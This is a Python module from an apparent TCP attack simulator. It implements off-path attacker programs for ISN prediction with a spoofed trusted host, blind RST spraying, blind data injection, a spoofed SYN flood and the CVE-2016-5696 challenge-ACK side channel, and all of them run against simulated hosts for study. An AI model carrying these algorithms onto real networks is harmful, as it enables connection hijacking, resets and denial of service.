"""The attack programs: what the attacker's host does, from packets and public knowledge only.

Each class is an :class:`~synack.attack.offpath.AttackProgram`. Like the host
they run on, they import nothing but :mod:`synack.wire` (checked by
import-linter): they craft segments, send them (spoofed where the attack needs
it) and read the segments addressed to their own host. What each one is told at
the start is public knowledge in its scenario: addresses and ports, the
victim's window size, the ISN algorithm a host runs (Kerckhoffs: the method is
known, the state and secrets are not).

Every program keeps an :class:`AttemptLog` of the guesses it sent, in order,
so the referee (the scenario, which may look at the victims) can say which
attempt worked.
"""

from __future__ import annotations

import random
from collections.abc import Hashable, Iterator
from functools import partial
from typing import Final

from synack.attack.offpath import OffPathHost
from synack.wire.ip import addr_to_str
from synack.wire.seq import MASK
from synack.wire.tcp import (
    ACK,
    PSH,
    RST,
    SYN,
    MaxSegmentSize,
    NoOperation,
    Option,
    Segment,
    Timestamps,
)

__all__ = [
    "HALF",
    "AttemptLog",
    "ChallengeAckSideChannel",
    "DataInjector",
    "IsnPredictor",
    "ResetSprayer",
    "SynFlooder",
    "clock_guesses",
    "counter_guesses",
]

HALF: Final = 1 << 31
"""Half the sequence space: of x and x + 2**31, one is always "at or below" any value."""
BSD_STEP: Final = 64_000
"""4.3BSD's per-connection and per-tick increment (see :mod:`synack.attack.isn`)."""


class AttemptLog:
    """The attempts a program sent, in order: key -> 1-based index (first sending), and when."""

    def __init__(self) -> None:
        self._index: dict[Hashable, int] = {}
        self._times: list[int] = []
        self.count = 0

    def add(self, key: Hashable, now: int) -> None:
        self.count += 1
        self._index.setdefault(key, self.count)
        self._times.append(now)

    def index_of(self, key: Hashable) -> int | None:
        """The attempt number of ``key``, or ``None`` if it was never sent."""
        return self._index.get(key)

    def time_of(self, index: int) -> int:
        """When attempt number ``index`` (1-based) was sent, in microseconds."""
        return self._times[index - 1]


def counter_guesses(last: int, step: int = BSD_STEP) -> Iterator[int]:
    """A counter's next values: ``last + step``, then one more step for each other event.

    Every connection and every tick adds one ``step`` to 4.3BSD's counter, so
    after the probe that showed ``last`` the next ISN is ``last + step * (1 + k)``,
    ``k`` being the ticks and other connections in between: fewest first.
    """
    k = 1
    while True:
        yield (last + step * k) & MASK
        k += 1


def clock_guesses(center: int) -> Iterator[int]:
    """``center``, ``center + 1``, ``center - 1``, ``center + 2``, ... (nearest first)."""
    yield center & MASK
    d = 1
    while True:
        yield (center + d) & MASK
        yield (center - d) & MASK
        d += 1


class IsnPredictor:
    """Morris's and Mitnick's attack: learn the ISNs, spoof a trusted host, predict, command.

    1. ``probes`` SYNs from the attacker's own address to the service; each
       SYN-ACK shows an ISN, and a RST tears the probe down.
    2. A SYN spoofed from the trusted host's address and privileged port. The
       server's SYN-ACK goes to the trusted host (offline, so nobody answers);
       the attacker never sees it.
    3. Blind ACKs carrying the command, each with one guess of that SYN-ACK's
       ISN + 1, nearest guesses first, at most ``budget``. A wrong guess only
       draws a RST to the trusted host; the right one completes the handshake.

    ``model`` is the ISN algorithm the server is known to run: ``counter``
    (4.3BSD: the next ISN is the last one plus 64,000 per connection and per
    half-second tick) or ``clock`` (a 4 us clock: the last ISN plus the time
    between the probe and the spoofed SYN over 4 us). Against ``rfc6528`` or
    ``random`` there is nothing to learn from the attacker's own connections;
    it extrapolates the clock, the best it can do (RFC 6528's M is that clock).
    """

    def __init__(
        self,
        *,
        server: bytes,
        service_port: int,
        trusted: bytes,
        trusted_port: int,
        model: str,
        command: bytes,
        seed: int,
        probes: int = 3,
        probe_interval: int = 20_000,
        gap: int = 100_000,
        wait: int = 40_000,
        budget: int = 1000,
        interval: int = 50,
    ) -> None:
        if model not in ("counter", "clock", "rfc6528", "random"):
            raise ValueError(f"unknown ISN model {model!r}")
        if probes < 1 or budget < 1:
            raise ValueError("need at least one probe and one guess")
        self.server, self.service_port = server, service_port
        self.trusted, self.trusted_port = trusted, trusted_port
        self.model = model
        self.command = command
        self.probes = probes
        self.probe_interval = probe_interval
        self.gap = gap - gap % 4  # whole clock ticks
        self.wait = wait
        self.budget = budget
        self.interval = interval
        self.rng = random.Random(f"{seed}/isn-predictor")
        self.log = AttemptLog()
        self.samples: list[tuple[int, int]] = []  # (time the probe SYN left, ISN seen)
        self.predictions: list[int] = []
        self.spoofed_iss = self.rng.getrandbits(32)
        self._probes: dict[int, tuple[int, int]] = {}  # our port -> (our ISS, send time)
        self._spoof_time: int | None = None

    # ------------------------------------------------------------- steps
    def start(self, host: OffPathHost, now: int) -> None:
        times = "once" if self.probes == 1 else f"{self.probes} times"
        host.note(now, f"probes the service {times} to learn its ISNs")
        for i in range(self.probes):
            host.at(now + i * self.probe_interval, partial(self._probe, host))

    def _probe(self, host: OffPathHost, now: int) -> None:
        port = 40000 + len(self._probes)
        iss = self.rng.getrandbits(32)
        self._probes[port] = (iss, now)
        host.send(host.address, self.server, _syn(port, self.service_port, iss))

    def on_segment(self, host: OffPathHost, src: bytes, dst: bytes, seg: Segment, now: int) -> None:
        probe = self._probes.get(seg.dst_port)
        if probe is None or seg.flags & (SYN | ACK) != SYN | ACK or src != self.server:
            return
        iss, sent = probe
        if seg.ack != (iss + 1) & MASK or any(t == sent for t, _ in self.samples):
            return
        self.samples.append((sent, seg.seq))
        # Tear the probe down: our RST is exact (SEQ = the ACK the server sent).
        host.send(host.address, self.server, Segment(seg.dst_port, seg.src_port, seg.ack, 0, RST))
        if len(self.samples) == 1:
            host.note(now, f"probe 1: ISN {seg.seq:,}")
        else:
            step = (seg.seq - self.samples[-2][1]) & MASK
            host.note(now, f"probe {len(self.samples)}: ISN {seg.seq:,} (+{step:,})")
        if len(self.samples) == self.probes:
            last_sent = self.samples[-1][0]
            host.at(last_sent + self.gap, lambda t: self._spoof(host, t))

    def _spoof(self, host: OffPathHost, now: int) -> None:
        self._spoof_time = now
        host.send(
            self.trusted, self.server, _syn(self.trusted_port, self.service_port, self.spoofed_iss)
        )
        last_sent, last_isn = self.samples[-1]
        if self.model == "counter":
            guesses = counter_guesses(last_isn)
            how = "the last ISN + 64,000 per connection and tick since"
        else:
            # RFC 793 3.3: the ISN clock's low bit ticks every 4 microseconds.
            guesses = clock_guesses(last_isn + (now - last_sent) // 4)
            how = (
                f"the last ISN + {(now - last_sent) // 4:,} (4 us ticks since), then nearest first"
            )
        self.predictions = [next(guesses) for _ in range(self.budget)]
        host.note(
            now,
            f"SYN spoofed from {addr_to_str(self.trusted)}:{self.trusted_port}; "
            f"the SYN-ACK goes there, unseen. Guesses: {how}",
        )
        host.at(now + self.wait, lambda t: self._guess(host, t, 0))

    def _guess(self, host: OffPathHost, now: int, i: int) -> None:
        ack = (self.predictions[i] + 1) & MASK
        self.log.add(ack, now)
        seg = Segment(
            self.trusted_port,
            self.service_port,
            (self.spoofed_iss + 1) & MASK,
            ack,
            ACK | PSH,
            window=512,
            payload=self.command,
        )
        host.send(self.trusted, self.server, seg)
        if i + 1 < len(self.predictions):
            host.at(now + self.interval, lambda t: self._guess(host, t, i + 1))
        else:
            host.note(now, f"sent all {len(self.predictions):,} guesses")


class _Blind:
    """A program that never needs an answer: what reaches its host is only counted."""

    received = 0

    def on_segment(self, host: OffPathHost, src: bytes, dst: bytes, seg: Segment, now: int) -> None:
        self.received += 1


class ResetSprayer(_Blind):
    """Watson's blind reset: RSTs for a known 4-tuple, one per window-sized slot of sequence space.

    Starting at a random ``seq``, the attacker steps by ``window`` (the
    victim's receive window, a typical value it assumes) for ``count`` RSTs at
    ``rate`` packets a second. Without RFC 5961 any RST inside the window kills
    the connection, so one slot in every 2**32 / window is enough.
    """

    def __init__(
        self,
        *,
        src: bytes,
        sport: int,
        dst: bytes,
        dport: int,
        window: int,
        count: int,
        seed: int,
        rate: int = 100_000,
        flags: int = RST,
    ) -> None:
        if window < 1 or count < 1 or rate < 1000:
            raise ValueError("need window >= 1, count >= 1 and rate >= 1000 packets/s")
        self.src, self.sport, self.dst, self.dport = src, sport, dst, dport
        self.window = window
        self.count = count
        self.rate = rate
        self.flags = flags
        self.rng = random.Random(f"{seed}/reset-sprayer")
        self.first_seq = self.rng.getrandbits(32)
        self.log = AttemptLog()
        self._sent = 0

    def start(self, host: OffPathHost, now: int) -> None:
        host.note(
            now,
            f"sprays {self.count:,} RSTs at {self.rate:,}/s, Seq from {self.first_seq:,} "
            f"in steps of {self.window:,}",
        )
        self._burst(host, now)

    def _burst(self, host: OffPathHost, now: int) -> None:
        # Packets go out in 1 ms bursts of rate/1000.
        for _ in range(min(self.rate // 1000, self.count - self._sent)):
            seq = (self.first_seq + self._sent * self.window) & MASK
            self._sent += 1
            self.log.add(seq, now)
            host.send(self.src, self.dst, Segment(self.sport, self.dport, seq, 0, self.flags))
        if self._sent < self.count:
            host.at(now + 1000, lambda t: self._burst(host, t))


class DataInjector(_Blind):
    """Blind data injection: segments with data for a known 4-tuple, sprayed over the space.

    For each window-sized slot of sequence space it sends one segment per ACK
    guess (``x`` and ``x + 2**31``: under RFC 793's rule one of them is always
    at or below SND.NXT) and, if the victim uses timestamps, per TSval guess
    (``y`` and ``y + 2**31``: one of them passes PAWS). The payload, about one
    MSS, repeats a marker ending in the attempt number, so whatever part of it
    reaches the application says which segment got in. (A receiver prefers
    the sender's in-order data over data it holds out of order, as BSD's
    ``tcp_reass`` and Linux do, so of an injected segment that lands ahead of
    RCV.NXT only the part past the legitimate segment that covers its start
    survives: a long payload keeps that part from being empty.)
    """

    MARKER: Final = "<<INJECTED #{:07d}>>\n"
    REPEAT: Final = 63  # 63 x 22 = 1,386 octets

    def __init__(
        self,
        *,
        src: bytes,
        sport: int,
        dst: bytes,
        dport: int,
        window: int,
        slots: int,
        seed: int,
        timestamps: bool,
        rate: int = 100_000,
    ) -> None:
        if window < 1 or slots < 1 or rate < 1000:
            raise ValueError("need window >= 1, slots >= 1 and rate >= 1000 packets/s")
        self.src, self.sport, self.dst, self.dport = src, sport, dst, dport
        self.window = window
        self.slots = slots
        self.rate = rate
        self.rng = random.Random(f"{seed}/data-injector")
        self.first_seq = self.rng.getrandbits(32)
        self.ack_guesses = _halves(self.rng.getrandbits(32))
        self.ts_guesses: tuple[int, ...] = _halves(self.rng.getrandbits(32)) if timestamps else ()
        self.per_slot = len(self.ack_guesses) * max(1, len(self.ts_guesses))
        self.count = slots * self.per_slot
        self.log = AttemptLog()
        self._sent = 0

    def start(self, host: OffPathHost, now: int) -> None:
        ts = f" x {len(self.ts_guesses)} TSval guesses" if self.ts_guesses else ""
        host.note(
            now,
            f"sprays {self.count:,} data segments at {self.rate:,}/s: Seq from "
            f"{self.first_seq:,} in steps of {self.window:,}, {len(self.ack_guesses)} ACK "
            f"guesses{ts} per step",
        )
        self._burst(host, now)

    def segment(self, n: int) -> Segment:
        """The ``n``-th segment (0-based) of the spray."""
        slot, rest = divmod(n, self.per_slot)
        n_ts = max(1, len(self.ts_guesses))
        ack = self.ack_guesses[rest // n_ts]
        options: tuple[Option, ...] = ()
        if self.ts_guesses:
            options = (NoOperation(), NoOperation(), Timestamps(self.ts_guesses[rest % n_ts], 0))
        return Segment(
            self.sport,
            self.dport,
            (self.first_seq + slot * self.window) & MASK,
            ack,
            ACK | PSH,
            window=1024,
            options=options,
            payload=(self.MARKER.format(n + 1) * self.REPEAT).encode(),
        )

    def _burst(self, host: OffPathHost, now: int) -> None:
        for _ in range(min(self.rate // 1000, self.count - self._sent)):
            seg = self.segment(self._sent)
            self._sent += 1
            self.log.add(self._sent, now)
            host.send(self.src, self.dst, seg)
        if self._sent < self.count:
            host.at(now + 1000, lambda t: self._burst(host, t))


class SynFlooder(_Blind):
    """A SYN flood: SYNs from random spoofed sources, a Poisson stream at ``rate`` per second.

    The sources are drawn from ``spoof_prefix`` (198.18.0.0/15, the
    benchmarking range, routed nowhere), so the SYN-ACKs go unanswered and
    each SYN holds a half-open connection until the server gives up on it.
    """

    def __init__(
        self,
        *,
        dst: bytes,
        dport: int,
        rate: float,
        until: int,
        seed: int,
        spoof_prefix: bytes = bytes([198, 18]),
    ) -> None:
        if rate <= 0:
            raise ValueError("the flood rate must be positive")
        self.dst, self.dport = dst, dport
        self.rate = rate
        self.until = until
        self.prefix = spoof_prefix
        self.rng = random.Random(f"{seed}/syn-flooder")
        self.log = AttemptLog()

    def start(self, host: OffPathHost, now: int) -> None:
        host.note(now, f"floods port {self.dport} with spoofed SYNs, {self.rate:g} a second")
        self._next(host, now)

    def _next(self, host: OffPathHost, now: int) -> None:
        t = now + max(1, round(self.rng.expovariate(self.rate) * 1_000_000))
        if t <= self.until:
            host.at(t, lambda at: self._send(host, at))

    def _send(self, host: OffPathHost, now: int) -> None:
        r = self.rng
        # 198.18.0.0/15: the low bit of the second octet and two more octets.
        src = bytes(
            [
                self.prefix[0],
                self.prefix[1] | r.getrandbits(1),
                r.randrange(256),
                r.randrange(1, 255),
            ]
        )
        self.log.add(self.log.count + 1, now)
        seg = _syn(r.randrange(1024, 65536), self.dport, r.getrandbits(32))
        host.send(src, self.dst, seg)
        self._next(host, now)


def _syn(sport: int, dport: int, iss: int) -> Segment:
    return Segment(sport, dport, iss, 0, SYN, window=65535, options=(MaxSegmentSize(1460),))


def _halves(x: int) -> tuple[int, int]:
    return x & MASK, (x + HALF) & MASK


class ChallengeAckSideChannel:
    """CVE-2016-5696: read a host-wide challenge-ACK budget to find RCV.NXT, then reset.

    Cao et al. ("Off-Path TCP Exploits: Global Rate Limit Considered
    Dangerous", USENIX Security, August 2016) showed that Linux 3.6 to 4.6,
    which allowed 100 challenge ACKs a second for the whole host, told an
    off-path attacker whether a spoofed segment had drawn one: after it, the
    attacker's own connection gets one challenge ACK fewer. Each round here,
    at least a second apart so that every round has a fresh budget:

    1. spoofed RSTs for the victim's 4-tuple (one per window-sized step of a
       set of candidates); one inside the window, not exact, spends one
       challenge ACK on the real client;
    2. ``probes`` RSTs on the attacker's own connection, in its window but
       not exact: each draws a challenge ACK while the budget lasts;
    3. it counts the challenge ACKs that come back: fewer than in a calibration
       round without step 1 means a candidate was in the window.

    Phase A tests the sequence space in batches of ``batch`` steps, phase B
    halves the batch that answered down to one step, phase C halves the window
    below that step down to RCV.NXT itself (a RST below RCV.NXT is out of the
    window and silent; one at or above it answers), and a RST at RCV.NXT ends
    the connection. A per-connection budget (synack's) never moves: the
    calibration count is always what comes back, and the attacker learns nothing.
    """

    def __init__(
        self,
        *,
        server: bytes,
        dport: int,
        client: bytes,
        cport: int,
        window: int,
        seed: int,
        probes: int = 100,
        batch: int = 4096,
        interval: int = 1_200_000,
    ) -> None:
        self.server, self.dport, self.client, self.cport = server, dport, client, cport
        self.window = window
        self.probes = probes
        self.batch = batch
        self.interval = interval
        self.rng = random.Random(f"{seed}/side-channel")
        self.first_seq = self.rng.getrandbits(32)
        self.slots = -(-(1 << 32) // window)
        self.own_port = 40_000 + self.rng.randrange(1000)
        self.own_iss = self.rng.getrandbits(32)
        self.own_seq = 0
        self.log = AttemptLog()  # one entry per round: a question to the side channel
        self.packets = 0
        self.baseline: int | None = None
        self.phase = "connect"
        self.candidates: list[int] = []  # phase A/B: step numbers; phase C: offsets
        self.next_batch = 0
        self.lo = self.hi = 0
        self.anchor = 0  # phase C: a sequence number known to be in the window
        self.answered = 0
        self._counting = False
        self._tested: list[int] = []
        self.outcome = ""
        self.history: list[tuple[int, str, int, int]] = []
        """Per round: (time, phase, challenge ACKs counted, sequence numbers still possible)."""

    # ------------------------------------------------------------ plumbing
    def start(self, host: OffPathHost, now: int) -> None:
        host.note(now, "opens a connection of its own to the server, to read the budget through")
        self._send(host, host.address, _syn(self.own_port, self.dport, self.own_iss))

    def on_segment(self, host: OffPathHost, src: bytes, dst: bytes, seg: Segment, now: int) -> None:
        if src != self.server or seg.dst_port != self.own_port:
            return
        if self.phase == "connect" and seg.flags & (SYN | ACK) == SYN | ACK:
            self.own_seq = (self.own_iss + 1) & MASK
            self._send(
                host,
                host.address,
                Segment(
                    self.own_port, self.dport, self.own_seq, (seg.seq + 1) & MASK, ACK, window=65535
                ),
            )
            self.phase = "calibrate"
            host.at(now + self.interval, partial(self._round, host))
        elif self._counting and seg.flags & (SYN | RST) == 0 and not seg.payload:
            self.answered += 1  # a challenge ACK for one of our own RSTs

    def _send(self, host: OffPathHost, src: bytes, seg: Segment) -> None:
        self.packets += 1
        host.send(src, self.server, seg)

    def _spoof(self, host: OffPathHost, seq: int) -> None:
        self._send(host, self.client, Segment(self.cport, self.dport, seq & MASK, 0, RST))

    # ------------------------------------------------------------- rounds
    def _round(self, host: OffPathHost, now: int) -> None:
        tested = self._plan()
        if tested is None:
            return
        self.log.add(self.phase, now)
        for seq in tested:
            self._spoof(host, seq)
        self.answered = 0
        self._counting = True
        # In the window, not exact: each draws a challenge ACK while the budget lasts.
        for _ in range(self.probes):
            self._send(
                host,
                host.address,
                Segment(self.own_port, self.dport, (self.own_seq + 1) & MASK, 0, RST),
            )
        self._tested = tested
        host.at(now + 100_000, partial(self._count, host))

    def _count(self, host: OffPathHost, now: int) -> None:
        self._counting = False
        got = self.answered
        phase = self.phase
        if self.baseline is None:
            self.baseline = got
            host.note(now, f"calibration: {got} challenge ACKs for its {self.probes} RSTs")
            self.phase = "A"
        else:
            self._learn(host, now, got < self.baseline)
        self.history.append((now, phase, got, self.uncertainty()))
        if self.phase != "done":
            host.at(now + self.interval - 100_000, partial(self._round, host))

    def uncertainty(self) -> int:
        """How many sequence numbers RCV.NXT may still be, as far as the attacker knows."""
        if self.phase in ("calibrate", "A"):
            return (self.slots - self.next_batch) * self.window or 1 << 32
        if self.phase == "B":
            return len(self.candidates) * self.window
        if self.phase == "C":
            return self.hi - self.lo + 1
        return 1

    def _plan(self) -> list[int] | None:
        """The spoofed sequence numbers of the next round (empty: calibration)."""
        if self.phase == "calibrate":
            return []
        if self.phase == "A":
            if self.next_batch >= self.slots:
                return None
            self.candidates = list(
                range(self.next_batch, min(self.slots, self.next_batch + self.batch))
            )
            self.next_batch += self.batch
            return [self.first_seq + i * self.window for i in self.candidates]
        if self.phase == "B":
            half = self.candidates[: len(self.candidates) // 2]
            return [self.first_seq + i * self.window for i in half]
        if self.phase == "C":
            mid = (self.lo + self.hi) // 2
            return [self.anchor + mid]
        if self.phase == "kill":
            return [self.anchor + self.lo]
        return None

    def _learn(self, host: OffPathHost, now: int, hit: bool) -> None:
        if self.phase == "A":
            if hit:
                host.note(
                    now,
                    f"one challenge ACK missing: steps {self.candidates[0]:,}.."
                    f"{self.candidates[-1]:,} hold the window",
                )
                self.phase = "B"
            elif self.next_batch >= self.slots:
                host.note(now, "no round ever came back short: the budget tells nothing")
                self.phase, self.outcome = "done", "no signal"
        elif self.phase == "B":
            n = len(self.candidates) // 2
            self.candidates = self.candidates[:n] if hit else self.candidates[n:]
            if len(self.candidates) == 1:
                self.anchor = (self.first_seq + self.candidates[0] * self.window) & MASK
                # RCV.NXT is in (anchor - window, anchor]: offsets -window+1 .. 0.
                self.lo, self.hi = -self.window + 1, 0
                host.note(now, f"Seq {self.anchor:,} is in the window; now RCV.NXT, by halves")
                self.phase = "C"
        elif self.phase == "C":
            mid = (self.lo + self.hi) // 2
            if hit:  # mid is in the window and not RCV.NXT: RCV.NXT is below it
                self.hi = mid - 1
            else:  # below the window (or exactly RCV.NXT, which reset the connection)
                self.lo = mid + 1
            if self.lo >= self.hi:
                self.phase = "kill"
        elif self.phase == "kill":
            host.note(
                now,
                f"RCV.NXT must be {(self.anchor + self.lo) & MASK:,}: its RST went out last round",
            )
            self.phase, self.outcome = "done", "reset sent"
